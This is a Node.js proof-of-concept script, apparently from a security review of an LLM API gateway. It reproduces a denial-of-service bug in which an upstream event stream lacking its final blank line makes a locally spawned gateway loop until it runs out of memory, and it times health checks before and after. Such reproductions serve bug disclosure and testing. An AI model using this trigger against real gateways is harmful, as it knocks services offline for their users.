// Gateway DoS: one streamed /v1/messages whose upstream ends message_stop without the final blank line freezes the
// gateway process (infinite microtask loop, then out of memory). The gateway runs in a child process; the parent
// times /healthz before and after.  Usage: node p16-gateway-freeze.mjs [chat]
import { spawn } from 'node:child_process';
import { raw } from './lib.mjs';
const chat = process.argv[2] === 'chat';
const evs = chat
  ? ['data: {"id":"c1","object":"chat.completion.chunk","created":1,"model":"gpt-4.1","choices":[{"index":0,"delta":{"role":"assistant","content":"Hi"},"finish_reason":null}]}\n\n', 'data: {"id":"c1","object":"chat.completion.chunk","created":1,"model":"gpt-4.1","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\n', 'data: [DONE]\n']
  : ['event: message_start\ndata: {"type":"message_start","message":{"id":"msg_p","type":"message","role":"assistant","model":"claude-sonnet-4-5","content":[],"stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":10,"output_tokens":1}}}\n\n',
     'event: content_block_start\ndata: {"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}\n\nevent: content_block_delta\ndata: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"Hello"}}\n\nevent: content_block_stop\ndata: {"type":"content_block_stop","index":0}\n\nevent: message_delta\ndata: {"type":"message_delta","delta":{"stop_reason":"end_turn","stop_sequence":null},"usage":{"output_tokens":5}}\n\nevent: message_stop\ndata: {"type":"message_stop"}\n'];
const up = await raw('p', (req, body, res) => { res.writeHead(200, { 'content-type': 'text/event-stream' }); res.end(evs.join('')); });
const child = spawn(process.execPath, ['--max-old-space-size=512', '-e', `
  import('@detour/worker').then(async ({ loadConfig, startGateway }) => {
    const config = loadConfig({ endpoints: [{ name: 'p', baseUrl: '${up.baseUrl}', apiKey: 'sk-x', ${chat ? '' : "provider: 'anthropic',"} }], gatewayKeys: ['gk-test'] }, {});
    const gw = await startGateway({ config }); console.log('URL ' + gw.url);
  });`], { cwd: process.cwd(), stdio: ['ignore', 'pipe', 'pipe'] });
let errTail = ''; child.stderr.on('data', (d) => { errTail = (errTail + d).slice(-300); });
child.on('exit', (code, sig) => console.log(`gateway process exited code=${code} signal=${sig}; stderr tail: ${JSON.stringify(errTail.slice(-160))}`));
const url = await new Promise((r) => child.stdout.on('data', (d) => { const m = /URL (\S+)/.exec(String(d)); if (m) r(m[1]); }));
const timed = async (label, fn) => { const t = Date.now(); try { const r = await fn(AbortSignal.timeout(4000)); console.log(label, 'answered', r, `in ${Date.now() - t} ms`); } catch (e) { console.log(label, 'FAILED', e.name, e.message, `after ${Date.now() - t} ms`); } };
await timed('healthz before', async (signal) => (await fetch(url + '/healthz', { signal })).status);
const path = chat ? '/v1/chat/completions' : '/v1/messages';
const body = chat ? { model: 'gpt-4.1', stream: true, messages: [{ role: 'user', content: 'hi' }] } : { model: 'claude-sonnet-4-5', max_tokens: 64, stream: true, messages: [{ role: 'user', content: 'hi' }] };
await timed('bad stream', async (signal) => { const r = await fetch(url + path, { method: 'POST', signal, headers: { 'content-type': 'application/json', 'x-api-key': 'gk-test', authorization: 'Bearer gk-test', 'anthropic-version': '2023-06-01' }, body: JSON.stringify(body) }); const t = await r.text(); return `${r.status} ${t.length} bytes`; });
await timed('healthz after', async (signal) => (await fetch(url + '/healthz', { signal })).status);
await new Promise((r) => setTimeout(r, 6000));
await timed('healthz 6s later', async (signal) => (await fetch(url + '/healthz', { signal })).status);
child.kill('SIGKILL'); up.close(); setTimeout(() => process.exit(0), 200);
